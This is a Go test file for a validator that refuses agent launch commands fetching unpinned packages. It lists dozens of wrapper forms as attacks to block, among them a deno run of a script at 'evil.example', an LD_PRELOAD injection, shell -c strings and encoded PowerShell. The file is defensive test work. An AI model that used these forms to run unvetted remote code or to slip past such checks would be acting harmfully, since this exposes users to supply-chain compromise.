package agents

import (
	"strings"
	"testing"
)

// wrappedFetches are the attacks: each runs a package Kule never pinned (the
// newest, whatever it is that day) while naming npx, uvx or a version only
// inside a wrapper.
var wrappedFetches = map[string][]string{
	"npm exec latest":        {"npm", "exec", "--yes", "pkg@latest"},
	"npm x":                  {"npm", "x", "-y", "pkg"},
	"npm exec pinned":        {"npm", "exec", "--", "pkg@1.2.3"},
	"npm create":             {"npm", "create", "agent"},
	"npm init":               {"npm", "init", "agent"},
	"env npx":                {"env", "npx", "-y", "pkg"},
	"env with a variable":    {"/usr/bin/env", "LD_PRELOAD=/tmp/x.so", "npx", "-y", "pkg@1.2.3"},
	"env -S":                 {"env", "-S", "npx -y pkg@latest"},
	"uv tool run":            {"uv", "tool", "run", "pkg"},
	"uv tool run pinned":     {"uv", "tool", "run", "pkg==1.2.3"},
	"uv x":                   {"uv", "x", "pkg"},
	"uv run --with":          {"uv", "run", "--with", "pkg", "agent"},
	"uv run --with=":         {"uv", "run", "--with=pkg", "agent"},
	"pipx run":               {"pipx", "run", "pkg"},
	"sh -c npx latest":       {"sh", "-c", "npx -y pkg@latest"},
	"bash -c":                {"bash", "-c", "npx pkg@latest"},
	"bash -lc":               {"/bin/bash", "-lc", "npx pkg@latest"},
	"bash -ec cluster":       {"bash", "-e", "-c", "uvx pkg"},
	"zsh -c":                 {"zsh", "-c", "npx pkg"},
	"dash -c":                {"dash", "-c", "npx pkg"},
	"fish --command":         {"fish", "--command", "npx pkg"},
	"fish --command=":        {"fish", "--command=npx pkg"},
	"sh -s":                  {"sh", "-s"},
	"cmd /c":                 {"cmd.exe", "/c", "npx pkg@latest"},
	"powershell -Command":    {"powershell", "-Command", "npx pkg@latest"},
	"pwsh -EncodedCommand":   {"pwsh", "-EncodedCommand", "bnB4"},
	"pnpm dlx":               {"pnpm", "dlx", "pkg@1.2.3"},
	"yarn dlx":               {"yarn", "dlx", "pkg"},
	"bun x":                  {"bun", "x", "pkg"},
	"bunx latest":            {"bunx", "pkg@latest"},
	"pnpx":                   {"pnpx", "pkg"},
	"npx latest":             {"npx", "-y", "pkg@latest"},
	"uvx unpinned":           {"uvx", "pkg"},
	"deno npm:":              {"deno", "run", "-A", "npm:pkg"},
	"deno url":               {"deno", "run", "https://evil.example/agent.ts"},
	"deno x":                 {"deno", "x", "pkg"},
	"dnx":                    {"dnx", "pkg"},
	"dotnet tool exec":       {"dotnet", "tool", "exec", "pkg"},
	"gem exec":               {"gem", "exec", "pkg"},
	"nix run":                {"nix", "run", "nixpkgs#agent"},
	"go run latest":          {"go", "run", "example.com/agent@latest"},
	"go run branch":          {"go", "run", "-mod=mod", "example.com/agent@main"},
	"node -e":                {"node", "-e", "require('child_process').execSync('npx pkg@latest')"},
	"node --eval=":           {"node", "--eval=1"},
	"python -c":              {"python3", "-c", "import os; os.system('uvx pkg')"},
	"perl -e":                {"perl", "-e", "system 'npx pkg'"},
	"awk":                    {"awk", "BEGIN { system(\"npx pkg\") }"},
	"nice":                   {"nice", "-n", "10", "npx", "pkg@latest"},
	"nohup":                  {"nohup", "npx", "pkg"},
	"timeout":                {"timeout", "1h", "npx", "pkg"},
	"sudo":                   {"sudo", "agent"},
	"xargs":                  {"xargs", "npx"},
	"busybox sh":             {"busybox", "sh", "-c", "npx pkg"},
	"corepack":               {"corepack", "pnpm", "dlx", "pkg"},
	"mise exec":              {"mise", "exec", "node@latest", "--", "npx", "pkg"},
	"poetry run":             {"poetry", "run", "agent"},
	"windows npx.cmd latest": {`C:\nodejs\npx.cmd`, "pkg@latest"},
}

func TestCheckCommandRefusesWrappedFetches(t *testing.T) {
	t.Parallel()
	for name, cmd := range wrappedFetches {
		p := Profile{Name: "mine", Source: "test", Command: cmd}
		err := Validate(p, nil)
		if err == nil {
			t.Errorf("%s: %q passed", name, cmd)
			continue
		}
		if msg := err.Error(); !strings.Contains(msg, "command") {
			t.Errorf("%s: the refusal does not say it is the command: %v", name, err)
		}
	}
	for name, cmd := range map[string][]string{
		"an agent":               {"codex-acp"},
		"an agent by path":       {"/opt/agent/bin/agent", "--acp"},
		"npx pinned":             {"npx", "-y", "@zed-industries/claude-code-acp@0.5.1"},
		"uvx pinned":             {"uvx", "agent==1.2.3", "acp"},
		"node runs a script":     {"node", "/opt/agent/cli.js", "--experimental-acp"},
		"python runs a module":   {"python3", "-m", "agent"},
		"bash runs a file":       {"bash", "/opt/agent/start.sh"},
		"sh with an option":      {"sh", "-e", "/opt/agent/start.sh"},
		"go run pinned":          {"go", "run", "example.com/agent@v1.2.3"},
		"go run local":           {"go", "run", "./cmd/agent"},
		"uv run local":           {"uv", "run", "agent"},
		"deno run local":         {"deno", "run", "-A", "/opt/agent/main.ts"},
		"npm run a local script": {"npm", "run", "acp"},
		"an argument with -c":    {"agent", "-c", "config.toml"},
		"an argument env":        {"agent", "env"},
	} {
		if err := Validate(Profile{Name: "mine", Source: "test", Command: cmd}, nil); err != nil {
			t.Errorf("%s: %q refused: %v", name, cmd, err)
		}
	}
}

// Without the check, each wrapped fetch passes the exact-version rule that
// npx and uvx are held to (so the table above shows what the check does).
// Not parallel: it turns the check off.
func TestWrappedFetchesPassWithoutTheCheck(t *testing.T) {
	commandGuard = false
	defer func() { commandGuard = true }()
	for _, name := range []string{"npm exec latest", "env npx", "uv tool run", "sh -c npx latest", "node -e", "nice"} {
		if err := Validate(Profile{Name: "mine", Source: "test", Command: wrappedFetches[name]}, nil); err != nil {
			t.Errorf("%s: refused without the check too (%v): the test shows nothing", name, err)
		}
	}
}

// FuzzCheckCommand: a command that passes never starts with a launcher, a
// shell reading a string or an interpreter given code, and a package it
// fetches the way Kule installs has one exact version.
func FuzzCheckCommand(f *testing.F) {
	for _, cmd := range wrappedFetches {
		f.Add(strings.Join(cmd, "\x00"))
	}
	f.Add("npx\x00-y\x00a@1.2.3")
	f.Add("bash\x00/opt/a.sh")
	f.Fuzz(func(t *testing.T, s string) {
		cmd := strings.Split(s, "\x00")
		if checkCommand(cmd) != nil {
			return
		}
		prog := programName(cmd[0])
		if _, ok := launchers[prog]; ok {
			t.Fatalf("%q passed with the launcher %s", cmd, prog)
		}
		for _, a := range cmd[1:] {
			if shells[prog] && shellStringFlag(prog, a) {
				t.Fatalf("%q passed with a shell string", cmd)
			}
		}
		if pkg, ok, err := PackageOf(cmd); ok && err == nil && !exactRE.MatchString(pkg.Version) {
			t.Fatalf("%q passed as %+v", cmd, pkg)
		}
	})
}
